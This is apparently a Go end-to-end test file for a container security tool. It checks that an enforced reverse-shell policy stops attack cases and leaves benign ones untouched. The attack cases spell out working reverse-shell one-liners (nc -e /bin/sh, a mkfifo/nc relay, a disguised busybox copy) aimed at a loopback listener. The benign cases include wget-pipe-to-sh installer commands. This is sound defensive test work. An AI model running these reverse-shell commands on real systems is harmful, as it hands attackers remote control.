package main

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"github.com/ocigate/ocigate/internal/testenv/peer"
	"golang.org/x/sys/unix"
)

// The subset of the precision corpora (test/e2e/corpus_*_test.go) a
// busybox guest can run, under the built-in reverse-shell policy in
// enforce mode (profile vmtest-precision): every attack stopped, every
// benign pattern untouched, on this boot's backends. Each case prints
//
//	VMTEST-PRECISION <attack|benign> <name> <stopped|missed|untouched|disturbed> <predicate|-> <what...>
//
// and scripts/vmtest.sh hands the markers of the lsm and fmod_ret boots
// to the table of docs/precision.md (test/vmtest/precisiontable). Names are the
// native corpora's where the technique or pattern is the same.

// vmCase is one technique or pattern: the probe's argv, given the
// listener's (attacks) or the pattern's port.
type vmCase struct {
	name, kind, what string
	args             func(port int) []string
	want             string                         // benign: in the output or the client's answer
	client           func(port int) (string, error) // benign servers: the test's client
	http             string                         // benign: serve this body over HTTP on port
}

func busyboxSh(script string) []string { return []string{"exec", "/bin/sh", "-c", script} }

var vmCases = []vmCase{
	{name: "busybox-nc-e", kind: "attack", what: "busybox nc HOST PORT -e /bin/sh", args: func(p int) []string {
		return []string{"exec", "/bin/busybox", "nc", "127.0.0.1", fmt.Sprint(p), "-e", "/bin/sh"}
	}},
	{name: "dup2-exec-sh", kind: "attack", what: "connect, dup2 the socket onto 0-2, exec /bin/sh (the suite probe)", args: func(p int) []string {
		return []string{"revshell", fmt.Sprintf("127.0.0.1:%d", p), shellPath}
	}},
	{name: "copied-shell", kind: "attack", what: "cp busybox /tmp/busybox-kworker; it runs nc -e itself as sh -i", args: func(p int) []string {
		return busyboxSh(fmt.Sprintf("cp /bin/busybox /tmp/busybox-kworker && exec /tmp/busybox-kworker nc 127.0.0.1 %d -e /tmp/busybox-kworker sh -i", p))
	}},
	{name: "fifo-nc-relay", kind: "attack", what: "mkfifo; cat f | sh -i 2>&1 | nc HOST PORT > f", args: func(p int) []string {
		return busyboxSh(fmt.Sprintf("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 %d > /tmp/f", p))
	}},
	{name: "inetd-nc-rev", kind: "benign", what: "busybox nc -l -p PORT -e busybox rev (inetd-style handler)", want: "olleh", args: func(p int) []string {
		return []string{"exec", "/bin/busybox", "nc", "-l", "-p", fmt.Sprint(p), "-e", "/bin/busybox", "rev"}
	}, client: vmClient},
	{name: "curl-pipe-sh", kind: "benign", what: "wget -qO- URL | sh (installer)", want: "installed-42", http: "echo installed-$((6*7))\n", args: func(p int) []string {
		return busyboxSh(fmt.Sprintf("wget -qO- http://127.0.0.1:%d/install.sh | sh", p))
	}},
	{name: "curl-o-then-sh", kind: "benign", what: "wget -O i.sh URL && sh i.sh", want: "installed-42", http: "echo installed-$((6*7))\n", args: func(p int) []string {
		return busyboxSh(fmt.Sprintf("wget -qO /tmp/i.sh http://127.0.0.1:%d/i.sh && sh /tmp/i.sh", p))
	}},
	{name: "shell-pipeline", kind: "benign", what: "sh -c 'echo hi | tr a-z A-Z | cat'", want: "HI", args: func(int) []string {
		return busyboxSh("echo hi | tr a-z A-Z | cat")
	}},
}

// vmClient dials the guest's server, sends hello, half-closes and reads
// the answer.
func vmClient(port int) (string, error) {
	return peer.Exchange(port, "hello\n", true, "", 10*time.Second)
}

func scenarioPrecision(s *suite, r *result) {
	var u unix.Utsname
	_ = unix.Uname(&u)
	s.emit("VMTEST-PRECISION-RUN %s %s", s.expect.For("exec"), unix.ByteSliceToString(u.Release[:]))
	for _, c := range vmCases {
		outcome, pred := s.precisionCase(r, c)
		if pred == "" {
			pred = "-"
		}
		s.emit("VMTEST-PRECISION %s %s %s %s %s", c.kind, c.name, outcome, pred, c.what)
		if outcome == "missed" || outcome == "disturbed" {
			r.failf("%s %s: %s", c.kind, c.name, outcome)
		}
	}
}

// precisionCase runs one case in a workload of its own and returns its
// outcome and the predicate of the enforced verdict, if any.
func (s *suite) precisionCase(r *result, c vmCase) (string, string) {
	w := s.newWorkload(r, "prec-"+c.name)
	w.annotations = map[string]string{"io.ocigate.vmtest-precision": "1"}
	defer w.cleanup(r)
	w.register(r)
	if c.kind == "attack" {
		ln := listen(r, shellGreeting)
		defer ln.Close()
		p := w.run(r, c.args(ln.Port())...)
		got := ln.WaitReceived(shellAnswer, 2*time.Second)
		ev, enforced := s.waitEvent(s.cfg.eventWait, map[string]any{"ocigate.container_id": w.id, "ocigate.enforced": true})
		if got || !enforced {
			r.diagf("attack %s: shell %v, enforced %v; probe %v; events:\n%s", c.name, got, enforced, p, strings.Join(s.containerLines(w.id), "\n"))
			return "missed", ""
		}
		return "stopped", getString(ev, "ocigate.predicate")
	}
	port, stop := s.precisionServer(r, c)
	defer stop()
	answer, clientErr := "", error(nil)
	done := make(chan struct{})
	go func() {
		defer close(done)
		if c.client != nil {
			answer, clientErr = c.client(port)
		}
	}()
	p := w.run(r, c.args(port)...)
	<-done
	if c.client == nil {
		answer = p.stdout
	}
	ev, enforced := s.waitEvent(noEventWait, map[string]any{"ocigate.container_id": w.id, "ocigate.enforced": true})
	if p.exit != 0 || !strings.Contains(answer, c.want) || enforced {
		r.diagf("benign %s: probe %v, answer %q (client error %v), enforced %v", c.name, p, answer, clientErr, enforced)
		return "disturbed", getString(ev, "ocigate.predicate")
	}
	return "untouched", ""
}

// precisionServer serves c.http on a loopback port, or only picks a free
// port for a server in the workload.
func (s *suite) precisionServer(r *result, c vmCase) (int, func()) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		r.fatalf("%v", err)
	}
	port := ln.Addr().(*net.TCPAddr).Port
	if c.http == "" {
		ln.Close()
		return port, func() {}
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(w, c.http)
	}), ReadHeaderTimeout: 5 * time.Second}
	go func() { _ = srv.Serve(ln) }()
	return port, func() { _ = srv.Close() }
}
